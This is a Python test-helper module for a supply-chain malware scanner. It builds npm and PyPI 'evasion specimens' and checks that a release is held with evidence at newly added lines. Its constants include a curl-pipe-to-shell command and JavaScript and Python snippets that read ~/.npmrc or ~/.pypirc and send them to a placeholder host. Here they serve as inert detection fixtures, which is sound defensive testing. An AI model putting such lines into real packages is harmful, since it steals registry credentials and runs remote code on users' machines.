"""What a specimen of evasion is, and whether an answer counts: refused, with evidence at what the update changed.

Every specimen is inert text: hosts are under ``.invalid``, and nothing here is ever executed.
"""

from collections.abc import Iterator, Mapping
from typing import Any

from msgspec import Struct, field

from lazaretto.core.finding import Evidence, Example
from lazaretto.core.policy import Outcome
from tests.examples import Analysis, build_analysis

PAD = "module.exports = (a) => a;\n"
"""What every JavaScript specimen was before."""

COMMAND = "curl -s https://stage.invalid/x | sh"
STEAL = (
    "const token = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
    "fetch('https://collect.invalid/in', { method: 'POST', body: token });\n"
)
PY_STEAL = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collect.invalid/in', data=open(os.path.expanduser('~/.pypirc'), 'rb').read())\n"
)

Files = Mapping[str, str | bytes]


class Specimen(Struct, frozen=True, kw_only=True):
    """One evasion: an old release, and a new one that hides something. ``missed`` says why it is not held, if so."""

    row: str
    title: str
    after: Files
    before: Files = field(default_factory=dict)
    ecosystem: str = "npm"
    sdist: bool = False
    world: Mapping[str, Any] = field(default_factory=dict)
    missed: str = ""

    @property
    def name(self) -> str:
        """What the test is called."""
        return f"{self.row}: {self.title}"


def npm(row: str, title: str, code: str, *, missed: str = "", **files: str | bytes) -> Specimen:
    """Return a specimen whose entry file gains code before what it always said; ``files`` are added besides.

    A name in ``files`` has ``__`` for a slash and ends in ``_js``, or what else the ending is.
    """
    added = {_path(name): text for name, text in files.items()}
    return Specimen(row=row, title=title, before={"index.js": PAD}, after={"index.js": code + PAD, **added}, missed=missed)


def pypi(row: str, title: str, code: str, *, missed: str = "", **files: str | bytes) -> Specimen:
    """Return a specimen whose package gains code that runs when it is imported."""
    added = {f"pad/{_path(name)}": text for name, text in files.items()}
    before = {"pad/__init__.py": "WIDTH = 2\n"}
    after = {"pad/__init__.py": code + "WIDTH = 2\n", **added}
    return Specimen(row=row, title=title, before=before, after=after, ecosystem="pypi", missed=missed)


def _path(name: str) -> str:
    stem, _, ending = name.replace("__", "/").rpartition("_")
    return f"{stem}.{ending}"


def ask(specimen: Specimen) -> Analysis:
    """Put the question about the newer release."""
    example = Example(
        title=specimen.title,
        after=specimen.after,  # type: ignore[arg-type] - the world takes bytes as well
        before=specimen.before or None,  # type: ignore[arg-type]
        ecosystem=specimen.ecosystem,
        sdist=specimen.sdist,
        world=specimen.world,
    )
    return build_analysis(example)


def refused(specimen: Specimen, analysis: Analysis) -> bool:
    """Whether the release is held for cause, with evidence at a line that is new in it."""
    held = analysis.outcome is not Outcome.ALLOW and analysis.verdict.for_cause
    return held and any(_is_new(specimen, place) for place in evidence(analysis))


def evidence(analysis: Analysis) -> Iterator[Evidence]:
    """Yield every place that a finding about the release names."""
    for record in analysis.records.values():
        for finding in record.findings:
            yield from finding.evidence


def told(analysis: Analysis) -> str:
    """Say what was found, for the message of a failed test."""
    found = [
        f"{one.detector}/{one.variant} at {one.evidence[0].path}:{one.evidence[0].line}"
        for record in analysis.records.values()
        for one in record.findings
    ]
    problems = [problem for record in analysis.records.values() for problem in record.problems]
    return f"{analysis.outcome.word} {analysis.verdict.charge.total:g} dB: {found} {problems}"


def _is_new(specimen: Specimen, place: Evidence) -> bool:
    new, old = (_lines(files.get(place.path, "")) for files in (specimen.after, specimen.before))
    return 0 < place.line <= len(new) and new[place.line - 1] not in old


def _lines(content: str | bytes) -> list[bytes]:
    return [line.strip() for line in (content.encode() if isinstance(content, str) else content).split(b"\n")]
